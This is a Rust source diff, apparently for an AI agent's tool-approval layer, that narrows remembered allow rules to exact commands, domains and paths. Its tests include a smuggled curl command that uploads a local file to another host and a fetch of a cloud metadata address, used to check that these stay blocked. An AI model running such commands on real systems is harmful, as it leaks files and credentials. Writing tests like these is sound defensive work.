@@ -1,7 +1,7 @@
 //! What an approval card shows: a title, the call in words, a preview, a diff, the answers.
 
 use super::{AnswerKind, Diff, Preview};
-use crate::decision::{Decision, Effect, Evaluate};
+use crate::decision::{Decider, Decision, Effect, Evaluate, Layer, TrustOverlay};
 use crate::registry::ToolDefinition;
 use crate::request::Request;
 use crate::tool::ToolKind;
@@ -149,10 +149,14 @@ pub(super) fn offered(remember: bool, whole_tool: bool) -> Vec<AnswerKind> {
     answers
 }
 
-/// The rules a "remember" answer stores when it names none: one `Bash(<command>)` per
-/// command of a shell line that asked, else the tool's name.
-/// The allow rules a "remember this" answer saves for a call the policy asked about: the
-/// tool for most tools, the command lines that asked for a shell call.
+/// The allow rules a "remember this" answer saves for a call the policy asked about, each
+/// as narrow as the call: one exact `Bash(<words>)` per command of a shell line that asked,
+/// `WebFetch(domain:<host>)` for a fetch, the exact absolute path for a file tool
+/// (`Read(//home/a/p/x)`), the tool's name for an MCP tool and any other tool. A rule is
+/// offered only when, remembered alone, it allows the call (or one command of a shell line)
+/// and names it exactly: a command whose words cannot be written in a rule (a `*`, a space
+/// inside a word, a word known only at run time) or a path with glob characters gives none.
+/// An empty list means nothing can be remembered: the card offers "allow once" only.
 ///
 /// ```
 /// use serde_json::json;
@@ -161,30 +165,159 @@ pub(super) fn offered(remember: bool, whole_tool: bool) -> Vec<AnswerKind> {
 /// let request = Request { tool: "Bash".into(), input: json!({"command": "npm test"}), ..Request::default() };
 /// let decision = policy.evaluate(&request);
 /// assert_eq!(remember_rules(&policy, &request, &decision), vec!["Bash(npm test)".to_owned()]);
+/// // A comment is not part of the command, and a `*` cannot be written exactly.
+/// let request = Request { tool: "Bash".into(), input: json!({"command": "curl -s 'http://h/?q=*'"}), ..Request::default() };
+/// assert!(remember_rules(&policy, &request, &policy.evaluate(&request)).is_empty());
 /// ```
 pub fn remember_rules(rules: &dyn Evaluate, request: &Request, decision: &Decision) -> Vec<String> {
-    default_rules(request, decision, rules.tool_kind(request))
+    checked_rules(rules, request, decision, rules.tool_kind(request))
 }
 
+/// [`default_rules`], keeping only those that cover the call they answer.
+pub(super) fn checked_rules(
+    rules: &dyn Evaluate,
+    request: &Request,
+    decision: &Decision,
+    kind: ToolKind,
+) -> Vec<String> {
+    default_rules(request, decision, kind)
+        .into_iter()
+        .filter(|rule| covers(rules, rule, request))
+        .collect()
+}
+
+/// Whether `rule`, remembered alone, allows `request` or one command of it through the
+/// trust layer.
+pub(super) fn covers(rules: &dyn Evaluate, rule: &str, request: &Request) -> bool {
+    let overlay = TrustOverlay {
+        allow_rules: vec![rule.to_owned()],
+        agent_bypass: false,
+    };
+    trust_decided(&rules.evaluate_with(request, &overlay))
+}
+
+/// Whether a remembered rule allowed the call, or one of its parts: the whole decision or a
+/// part is an allow whose decider is a rule of the trust layer.
+pub(super) fn trust_decided(decision: &Decision) -> bool {
+    let by_trust = |effect: Effect, decider: &Decider| {
+        effect == Effect::Allow
+            && matches!(
+                decider,
+                Decider::Rule {
+                    layer: Layer::Trust,
+                    ..
+                }
+            )
+    };
+    by_trust(decision.effect, &decision.reason.decider)
+        || decision
+            .parts
+            .iter()
+            .any(|p| by_trust(p.effect, &p.reason.decider))
+}
+
+/// The rules a "remember" answer would save, before the coverage check (see
+/// [`remember_rules`]).
 pub(super) fn default_rules(request: &Request, decision: &Decision, kind: ToolKind) -> Vec<String> {
-    if kind != ToolKind::Shell {
-        return vec![request.tool.clone()];
-    }
-    let asked: Vec<String> = decision
+    let mut out: Vec<String> = match kind {
+        ToolKind::Shell => shell_rules(request, decision),
+        ToolKind::Fetch => fetch_rule(request).into_iter().collect(),
+        ToolKind::Read | ToolKind::Write | ToolKind::Edit | ToolKind::Delete => path_rules(request),
+        ToolKind::Mcp | ToolKind::Glob | ToolKind::Grep | ToolKind::Other => {
+            vec![request.tool.clone()]
+        }
+    };
+    let mut seen = std::collections::HashSet::new();
+    out.retain(|r| seen.insert(r.clone()));
+    out
+}
+
+/// One exact `Bash(...)` rule per command of the line that asked (the whole line when no
+/// part asked), each from the command's words as the shell reads them.
+fn shell_rules(request: &Request, decision: &Decision) -> Vec<String> {
+    let asked: Vec<&str> = decision
         .parts
         .iter()
         .filter(|p| p.effect == Effect::Ask)
         .map(|p| p.part.trim())
         .filter(|p| !p.is_empty() && !p.starts_with(['>', '<']))
-        .map(|p| format!("Bash({p})"))
         .collect();
-    if !asked.is_empty() {
-        return asked;
+    let texts = if asked.is_empty() {
+        request.input_str("command").into_iter().collect()
+    } else {
+        asked
+    };
+    texts.into_iter().filter_map(exact_command_rule).collect()
+}
+
+/// `Bash(<words>)` for a text that is exactly one simple command whose words can all be
+/// written in a rule; `None` otherwise.
+fn exact_command_rule(text: &str) -> Option<String> {
+    let commands = crate::shell::simple_commands(text)?;
+    let [words] = commands.as_slice() else {
+        return None;
+    };
+    let words: Vec<&str> = words
+        .iter()
+        .map(|w| w.as_deref().filter(|w| writable_word(w)))
+        .collect::<Option<_>>()?;
+    (!words.is_empty()).then(|| format!("Bash({})", words.join(" ")))
+}
+
+/// Whether a command word means exactly itself in a command rule: not empty, no `*` (a
+/// glob in a rule), no whitespace (rules split words at it), nothing invisible.
+fn writable_word(word: &str) -> bool {
+    !word.is_empty()
+        && !word
+            .chars()
+            .any(|c| c == '*' || c.is_whitespace() || crate::shell::is_deceptive(c))
+}
+
+/// `<tool>(domain:<host>)` for a fetch of a URL with a host.
+fn fetch_rule(request: &Request) -> Option<String> {
+    let url = request.input_str("url")?;
+    let host = crate::rule::FetchTarget::parse(url)?.host;
+    let plain = !host.is_empty()
+        && host
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '[' | ']' | ':'));
+    plain.then(|| format!("{}(domain:{host})", request.tool))
+}
+
+/// `<tool>(//<absolute path>)` for every path of a file tool, or none when any path cannot
+/// be named exactly (a glob character, a home-relative or unresolvable path).
+fn path_rules(request: &Request) -> Vec<String> {
+    let Ok(paths) = crate::tool::input_paths(&request.input) else {
+        return Vec::new();
+    };
+    let rules: Option<Vec<String>> = paths
+        .iter()
+        .map(|p| absolute(p.path, request.cwd.as_deref()))
+        .map(|abs| {
+            let abs = abs.filter(|a| {
+                !a.chars().any(|c| {
+                    matches!(c, '*' | '?' | '[' | ']' | '{' | '}' | '(' | ')' | '\\')
+                        || c.is_whitespace()
+                        || crate::shell::is_deceptive(c)
+                })
+            })?;
+            Some(format!("{}(/{abs})", request.tool))
+        })
+        .collect();
+    rules.filter(|r| !r.is_empty()).unwrap_or_default()
+}
+
+/// `path` as an absolute path: as it is when it starts with `/`, else below `cwd`.
+fn absolute(path: &str, cwd: Option<&str>) -> Option<String> {
+    if path.starts_with('/') {
+        return Some(path.to_owned());
     }
-    match request.input_str("command").map(str::trim) {
-        Some(c) if !c.is_empty() => vec![format!("Bash({c})")],
-        _ => Vec::new(),
+    let cwd = cwd.filter(|c| c.starts_with('/'))?;
+    if path.starts_with('~') || path.is_empty() {
+        return None;
     }
+    let rel = path.strip_prefix("./").unwrap_or(path);
+    Some(format!("{}/{rel}", cwd.trim_end_matches('/')))
 }
 
 #[cfg(test)]
@@ -286,5 +419,91 @@ mod tests {
         assert_eq!((d.old_text.as_str(), d.new_text.as_str()), ("x", "y"));
         let r = req("Edit", json!({"file_path": "a", "new_string": "y"}));
         assert!(diff(&r, ToolKind::Edit).is_none());
+    }
+
+    fn remembered(tool: &str, input: Value) -> Vec<String> {
+        let policy = crate::Policy::from_json("{}").unwrap();
+        let r = Request {
+            cwd: Some("/home/a/p".into()),
+            ..req(tool, input)
+        };
+        remember_rules(&policy, &r, &policy.evaluate(&r))
+    }
+
+    fn allowed_with(rule: &str, tool: &str, input: Value) -> bool {
+        let policy = crate::Policy::from_json("{}").unwrap();
+        let r = Request {
+            cwd: Some("/home/a/p".into()),
+            ..req(tool, input)
+        };
+        let overlay = TrustOverlay {
+            allow_rules: vec![rule.to_owned()],
+            agent_bypass: false,
+        };
+        policy.evaluate_with(&r, &overlay).effect == Effect::Allow
+    }
+
+    #[test]
+    fn shell_rules_are_built_from_the_words_not_the_text() {
+        let rules = remembered("Bash", json!({"command": "curl -s http://h/status # *"}));
+        assert_eq!(rules, ["Bash(curl -s http://h/status)"]);
+        let other =
+            json!({"command": "curl -s http://h/status \"#\" -d @notes.txt http://other/collect"});
+        assert!(!allowed_with(&rules[0], "Bash", other));
+        assert!(allowed_with(
+            &rules[0],
+            "Bash",
+            json!({"command": "curl -s http://h/status"})
+        ));
+        for unwritable in [
+            "curl -s 'http://h/s?q=*'",
+            "curl -s 'http://h/a b'",
+            "curl -s \"$URL\"",
+            "curl -s http://h/x:*",
+        ] {
+            assert_eq!(
+                remembered("Bash", json!({"command": unwritable})),
+                Vec::<String>::new(),
+                "{unwritable}"
+            );
+        }
+        assert_eq!(
+            remembered(
+                "Bash",
+                json!({"command": "npm publish && curl -s 'http://h/*'"})
+            ),
+            ["Bash(npm publish)"]
+        );
+    }
+
+    #[test]
+    fn other_rules_are_as_narrow_as_the_call() {
+        let fetch = json!({"url": "https://docs.python.org/3/"});
+        let rules = remembered("WebFetch", fetch);
+        assert_eq!(rules, ["WebFetch(domain:docs.python.org)"]);
+        let metadata = json!({"url": "http://169.254.169.254/latest/meta-data/"});
+        assert!(!allowed_with(&rules[0], "WebFetch", metadata));
+        assert_eq!(
+            remembered("Write", json!({"file_path": "src/new.rs", "content": "x"})),
+            ["Write(//home/a/p/src/new.rs)"]
+        );
+        assert_eq!(
+            remembered("Read", json!({"file_path": "/etc/hosts"})),
+            ["Read(//etc/hosts)"]
+        );
+        let write_other = json!({"file_path": "src/other.rs", "content": "x"});
+        assert!(!allowed_with(
+            "Write(//home/a/p/src/new.rs)",
+            "Write",
+            write_other
+        ));
+        assert_eq!(
+            remembered("Write", json!({"file_path": "src/*.rs", "content": "x"})),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            remembered("mcp__db__query", json!({"sql": "select 1"})),
+            ["mcp__db__query"]
+        );
     }
 }
